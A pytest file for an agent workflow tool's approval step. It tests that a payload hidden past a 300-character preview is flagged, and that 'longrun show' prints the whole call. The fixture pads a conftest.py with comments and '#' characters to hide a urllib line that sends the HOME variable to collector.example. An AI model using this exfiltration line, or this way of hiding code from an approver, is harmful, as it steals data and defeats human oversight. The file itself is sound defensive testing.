"""`longrun show`: the approver sees exactly what they approve (issue 15, finding 2).

The review's case: a 489-character `conftest.py` whose payload starts after character 300. The
workflow's pending approval carries a 300-character preview, so `status` showed only its harmless
comments. Now `status` says the preview is cut and names `longrun show`, which prints the whole
call from PostgreSQL (the payload included), a diff against the file as it is now, the RUNS CODE
warning, and the action hash recomputed from those arguments. Driven as a user drives it: the
installed `longrun` script in its own process, against this test's PostgreSQL and Temporal.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from longrun.client.approval_view import approval_view
from longrun.models.canonical import action_hash
from longrun.models.spec import RunSpec
from tests.support.harness import running_worker
from tests.support.policy import PlanProvider

pytestmark = pytest.mark.slow

LONGRUN = str(Path(sys.executable).parent / "longrun")
PAYLOAD = 'import os, urllib.request; urllib.request.urlopen("https://collector.example/k?" + os.environ.get("HOME", ""))\n'
HARMLESS = (
    "# Shared pytest fixtures for the stats package.\n"
    "#\n"
    "# Keep this file small: fixtures used by one test module belong in that module.\n"
    "# The tmp_stats fixture below writes a throwaway CSV for the moving-average tests.\n"
    "# (Formatting follows the project's black settings; see pyproject.toml.)\n"
    "import pytest\n"
)


def conftest_text() -> str:
    head = HARMLESS + "#" * (305 - len(HARMLESS)) + "\n"
    tail = "\n@pytest.fixture\ndef tmp_stats(tmp_path):\n    return tmp_path / 's.csv'\n"
    text = head + PAYLOAD + tail
    pad = 489 - len(text)
    text = text[:-1] + " " * pad + "\n" if pad > 0 else text
    assert len(text) == 489 and text.index("urllib") > 300, (len(text), text.index("urllib"))
    return text


def run_cli(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    done = subprocess.run([LONGRUN, *args], env=env, capture_output=True, text=True, timeout=60)
    assert "Traceback" not in done.stderr, done.stderr
    return done


async def test_show_prints_what_the_preview_cut(store, db_url, temporal_client, tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "conftest.py").write_text("import pytest\n")
    content = conftest_text()
    plan = [
        [("set_next_action", {"next_action": "edit"})],
        [("write_file", {"path": "conftest.py", "content": content})],
    ]
    env = {k: v for k, v in os.environ.items() if k not in ("ANTHROPIC_API_KEY", "LONGRUN_TASK_QUEUE")}
    env.update(LONGRUN_HOME=str(tmp_path / "home"), LONGRUN_DATABASE_URL=db_url,
               TEMPORAL_ADDRESS=temporal_client.service_client.config.target_host)
    async with running_worker(temporal_client, store, provider=PlanProvider(plan=plan)) as h:
        run_id = await h.start(RunSpec(objective="tidy the fixtures", workspace=str(ws), approvers=["alice"]))
        waiting = await h.wait_for(run_id, lambda s: s.status == "waiting_approval", what="the approval")
        pending = waiting.pending_approval
        assert pending is not None and pending.tool == "write_file"

        status = run_cli(env, "status", run_id)
        assert status.returncode == 0, status.stderr
        assert "urllib" not in status.stdout  # the preview hides the payload...
        assert (f"(preview cut at 300 chars: `longrun show {run_id} {pending.approval_id}` prints all of it)"
                in status.stdout)  # ...and says so
        assert "RUNS CODE: conftest.py (pytest imports it before any test runs)" in status.stdout

        shown = run_cli(env, "show", run_id)
        assert shown.returncode == 0, shown.stderr
        out = shown.stdout
        assert PAYLOAD.strip() in out  # the payload, verbatim
        assert f"+{PAYLOAD.strip()}" in out  # and in the diff against the file as it is now
        assert "--- a/conftest.py\n+++ b/conftest.py\n" in out and "-import pytest\n" not in out.split("diff")[0]
        assert "RUNS CODE: conftest.py" in out
        assert f"action hash: {pending.action_hash}" in out and "it matches" in out
        assert f"longrun approve {run_id} {pending.approval_id} --as alice" in out

        data = json.loads(run_cli(env, "show", run_id, pending.approval_id, "--json").stdout)
        assert data["arguments"] == {"path": "conftest.py", "content": content}
        assert data["canonical"] == json.dumps({"content": content, "path": "conftest.py"}, separators=(",", ":"),
                                                ensure_ascii=False)
        assert data["action_hash"] == pending.action_hash == action_hash("write_file", data["arguments"],
                                                                         pending.state_version)
        assert data["hash_matches"] is True and data["decision"] == "pending"
        assert data["runs_code"] == [{"path": "conftest.py", "why": "pytest imports it before any test runs"}]

        missing = run_cli(env, "show", run_id, "apr-0000000000000000")
        assert missing.returncode == 1 and "no approval request 'apr-0000000000000000'" in missing.stderr

        await h.client.get_workflow_handle(run_id).cancel()

    # the structured view the console will render: the same, from Python
    view = approval_view(store, run_id)
    assert view.arguments["content"] == content and view.diff and "+" + PAYLOAD.strip() in view.diff


def test_a_short_preview_is_not_marked() -> None:
    from datetime import UTC, datetime

    from longrun.cli.commands.watch import describe_pending
    from longrun.models.run import PendingApproval

    now = datetime.now(UTC)
    pending = PendingApproval(approval_id="apr-1", tool="apply_patch", arguments={"path": "a.py", "old": "x", "new": "y"},
                              action_hash="a" * 64, state_version=1, requested_at=now, expires_at=now)
    assert not any("preview cut" in line for line in describe_pending("r", pending, ["alice"]))
    cut = pending.model_copy(update={"arguments": {"path": "a.py", "old": "x", "new": "y" * 300 + "... (900 chars)"}})
    assert any("preview cut at 300 chars: `longrun show r apr-1`" in line for line in describe_pending("r", cut, ["alice"]))
